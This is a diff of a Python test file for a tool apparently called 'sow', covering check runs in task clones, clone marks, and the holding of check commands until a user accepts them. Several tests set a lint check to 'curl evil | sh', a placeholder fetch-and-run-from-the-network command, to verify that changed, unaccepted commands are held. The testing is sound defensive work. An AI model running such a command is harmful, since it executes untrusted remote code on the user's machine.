@@ -1,5 +1,6 @@
 """A check from its claim to its record: its result, its limits, and a kill at each step."""
 
+import json
 import os
 import signal
 import subprocess
@@ -10,20 +11,30 @@ import msgspec
 import pytest
 import yaml
 from attempt_cases import is_running, wait_until
+from attempts.job_values import NOW
 from clones.clone_site import add_clone, name_author, plain
 from msgspec import UNSET
 from step_cases import CheckSite
 from watch_cases import ME, WatchSite, dead_process
 
-from sow.ids import WorkerId
+from sow.clone_mark import read_mark
+from sow.clones.main_checkout import main_checkout
+from sow.clones.mark import Stage, mark_for, write_mark
+from sow.clones.record import note_clone
+from sow.config.clones import CloneSettings
+from sow.git.repository import repository_of
+from sow.ids import TaskId, WorkerId
 from sow.jobs import jobs, leases
 from sow.schema.causes import Cause
 from sow.schema.job import JobState, Verb
 from sow.schema.step_result import StepResult
 from sow.schema.task import TaskClone, TaskStatus
+from sow.state.tasks import add_task
 from worker.adopt import adopt
 from worker.holding import release_if_trusted
 from worker.step_end import result_of
+
+pytestmark = pytest.mark.slow  # process after process
 
 OTHER = WorkerId("w2-bbbbbb")
 SAY_PID = "echo $$ >.x; mv .x {0}; "
@@ -121,12 +132,18 @@ def cloned(checks: CheckSite, tmp_path_factory: pytest.TempPathFactory) -> Path:
     name_author(checks.file("."))
     plain(checks.file("."), "add", "a", ".sow/config.yaml")
     plain(checks.file("."), "commit", "-qm", "first")
-    made = add_clone(checks.file("."), tmp_path_factory.mktemp("clones") / "010", "sow/p/010")
+    folder = tmp_path_factory.mktemp("clones")
+    place = main_checkout(checks.site.workspace, CloneSettings(folder=str(folder))).place(
+        checks.site.task()
+    )
+    place.path.parent.mkdir(parents=True)
+    made = add_clone(checks.file("."), place.path, place.branch)
     made.commit("b", "b")
-    facts = made.facts
-    clone = TaskClone(path=str(facts.path), branch=facts.branch, base=facts.base)
+    mark = mark_for(place, made.facts.base)
+    write_mark(place.path, mark._replace(stage=Stage.WHOLE))
+    clone = TaskClone(path=mark.path, branch=mark.branch, base=mark.base)
     checks.site.change_task(clone=clone)
-    return facts.path
+    return place.path
 
 
 def test_what_sow_copied_by_a_pattern_is_no_difference(checks: CheckSite, cloned: Path) -> None:
@@ -180,6 +197,49 @@ def test_a_clone_that_is_gone_or_is_a_link_is_not_checked(checks: CheckSite, clo
         assert checks.start(job) is None
         assert checks.site.get(job).cause is Cause.CONFIGURATION
     assert checks.site.task().check is UNSET
+
+
+def test_a_clone_that_is_not_finished_is_not_checked(checks: CheckSite, cloned: Path) -> None:
+    mark = read_mark(str(cloned))
+    assert mark is not None
+    write_mark(cloned, mark._replace(stage=Stage.MADE))
+    job = checks.place("unit")
+    assert checks.start(job) is None
+    assert "there is no whole clone" in checks.site.get(job).reason
+
+
+def test_a_copied_checkout_checks_nothing_in_the_originals_clone(
+    checks: CheckSite, cloned: Path
+) -> None:
+    """The state of the copy names the clone; the copy has an id of its own, so it is not its."""
+    original = cloned.parents[2] / "original"
+    checkout = checks.file(".git/sow/checkout.json")
+    record = json.loads(checkout.read_text())
+    plain(checks.file("."), "clone", "-q", ".", str(original))
+    (original / ".git/sow").mkdir()
+    moved = {**record, "path": str(original)}
+    for path in (original / ".git/sow/checkout.json", checkout):
+        path.write_text(json.dumps(moved))
+    job = checks.place("unit")
+    assert checks.start(job) is None
+    assert "there is no whole clone" in checks.site.get(job).reason
+
+
+def test_what_a_setup_has_left_is_no_difference(checks: CheckSite, cloned: Path) -> None:
+    mark = read_mark(str(cloned))
+    assert mark is not None
+    (cloned / "made").mkdir()
+    (cloned / "made" / "by-setup").write_text("x")
+    checks.run("unit")
+    assert checks.check()["dirty"] is True
+    main = repository_of(checks.site.workspace.root)
+    note_clone(main, mark._replace(copied=("made",)))
+    checks.run("unit")
+    assert checks.check()["dirty"] is False
+    (cloned / "other").write_text("the agent's own")
+    write_mark(cloned, mark._replace(copied=("made", "other")))  # as the agent can
+    checks.run("unit")
+    assert checks.check()["dirty"] is True
 
 
 def test_without_git_no_commit_is_told(checks: CheckSite) -> None:
@@ -236,9 +296,27 @@ def test_what_nobody_has_accepted_is_held_and_goes_on_once_it_is(checks: CheckSi
 def test_a_text_that_changes_after_it_was_accepted_is_held_again(checks: CheckSite) -> None:
     assert checks.run("unit").state is JobState.DONE
     checks.write(unit="echo hello", lint="curl evil | sh")
-    job = checks.place("unit")
+    job = checks.place("lint")
     assert checks.start(job) is None
     assert "have changed since" in checks.site.get(job).reason
+
+
+def test_a_check_that_was_accepted_runs_whatever_has_changed_beside_it(checks: CheckSite) -> None:
+    checks.write(unit="echo hello", lint="curl evil | sh")
+    assert checks.run("unit").state is JobState.DONE
+
+
+def test_each_held_job_goes_on_once_what_it_needs_is_accepted(checks: CheckSite) -> None:
+    checks.write(unit="echo other", lint="true")
+    add_task(checks.site.workspace, name="B", agent="implementer", now=NOW, task_id=TaskId("020"))
+    held = [checks.place("unit"), checks.place("unit", "lint", task="020")]
+    for job in held:
+        checks.start(job)
+    checks.trust()
+    checks.write(unit="echo other", lint="curl evil | sh")
+    release_if_trusted(checks.site.context)
+    states = [checks.site.get(job).state for job in held]
+    assert states == [JobState.QUEUED, JobState.HELD]
 
 
 def test_a_word_that_was_said_a_moment_too_early_is_heard(
